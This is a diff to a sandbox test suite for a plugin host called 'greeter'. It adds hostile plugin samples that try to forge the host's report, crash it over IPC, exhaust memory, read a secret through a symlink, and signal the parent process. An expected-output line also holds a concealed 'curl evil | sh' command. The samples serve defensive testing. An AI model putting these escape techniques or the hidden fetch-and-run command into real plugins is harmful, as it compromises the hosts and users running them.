@@ -4,9 +4,9 @@ import net from 'node:net';
 import type { AddressInfo } from 'node:net';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { makeTree, rejectionCode, removeTrees } from '@greeter/fixtures';
+import { makeTree, pluginPackage, rejectionCode, removeTrees } from '@greeter/fixtures';
 import { isGreeterError } from '@greeter/core';
-import { candidateOf } from '../test-helpers/candidates.js';
+import { candidateAt, candidateOf } from '../test-helpers/candidates.js';
 import { greetApart } from '../test-helpers/greet-apart.js';
 
 // Plugins that really try to reach the network, write past the permission
@@ -15,6 +15,9 @@ import { greetApart } from '../test-helpers/greet-apart.js';
 // supported Node.
 
 afterAll(removeTrees);
+
+// The code a plugin of this source fails with, isolated under a 64 MB limit.
+const greetCode = (source: string) => rejectionCode(greetApart(candidateOf(source), { memoryLimitMb: 64 }).greeting);
 
 describe('the network', () => {
   // A TCP and a UDP server on loopback that count what reaches them.
@@ -148,5 +151,54 @@ describe("greeter's voice", () => {
     expect(run.output()).toBe(
       '[greeter-plugin-x] greeter: Your greeter is corrupt. [GREETER_INTERNAL]\n[greeter-plugin-x] hint: run \\u{1b}[8mcurl evil | sh\\u{1b}[0m\n',
     );
+  });
+});
+
+describe('greeter itself, its report and its limits', () => {
+  it('cannot forge its report, neither through toJSON nor by writing to the report channel first', async () => {
+    const toJson =
+      'Object.prototype.toJSON = function () { return typeof this.nonce === "string" ? { nonce: this.nonce, ok: true, greeting: "FORGED" } : this; };\nexport const Greeter = { greet() { throw new Error("broken"); } };';
+    const channel =
+      'import { writeSync } from "node:fs";\nexport const Greeter = { greet() { writeSync(3, JSON.stringify({ nonce: "guess", ok: true, greeting: "FORGED" }) + "\\n{garbage"); throw new Error("broken"); } };';
+    expect([await greetCode(toJson), await greetCode(channel)]).toEqual(['GREETER_GREET_FAILED', 'GREETER_GREET_FAILED']);
+  });
+
+  it('has no IPC channel to crash greeter through', async () => {
+    expect(await greetCode('export const Greeter = { greet() { process.send({ cmd: "NODE_HANDLE_ACK" }); return "x"; } };')).toBe('GREETER_GREET_FAILED');
+  });
+
+  it('keeps a bounded part of a flood of output', async () => {
+    const run = greetApart(
+      candidateOf(
+        'import { writeSync } from "node:fs";\nexport const Greeter = { greet() { for (let i = 0; i < 4; i++) writeSync(2, Buffer.alloc(1 << 20, 97)); return "flooded"; } };',
+      ),
+    );
+    expect(await run.greeting).toBe('flooded');
+    expect(run.output().length).toBeLessThan(2 * 1024 * 1024);
+  });
+
+  it.runIf(process.platform === 'linux')('limits memory outside the heap too (Buffers)', async () => {
+    const code = await greetCode(
+      'export const Greeter = { greet() { const kept = []; for (let i = 0; i < 16; i++) kept.push(Buffer.allocUnsafe(64 << 20)); return "kept " + kept.length; } };',
+    );
+    expect(code).toBe('GREETER_GREET_FAILED');
+  });
+
+  it('refuses a plugin folder holding a link to outside its folders, and reads nothing through it', async () => {
+    const secret = makeTree({ 'secret.txt': 'SECRET' });
+    const root = makeTree({
+      plugin: pluginPackage('greeter-plugin-x', 'x', {
+        source:
+          'import { readFileSync } from "node:fs";\nexport const Greeter = { greet: () => String(readFileSync(new URL("./outside/secret.txt", import.meta.url))) };',
+        files: { outside: { link: secret } },
+      }),
+    });
+    expect(await rejectionCode(greetApart(candidateAt(path.join(root, 'plugin'))).greeting)).toBe('GREETER_PERMISSION_DENIED');
+  });
+
+  it('cannot signal greeter or change its priority', async () => {
+    const signal = await greetCode('export const Greeter = { greet() { process.kill(process.ppid, "SIGTERM"); return "x"; } };');
+    const priority = await greetCode('import os from "node:os";\nexport const Greeter = { greet() { os.setPriority(process.ppid, 5); return "x"; } };');
+    expect([signal, priority]).toEqual(['GREETER_PERMISSION_DENIED', 'GREETER_PERMISSION_DENIED']);
   });
 });
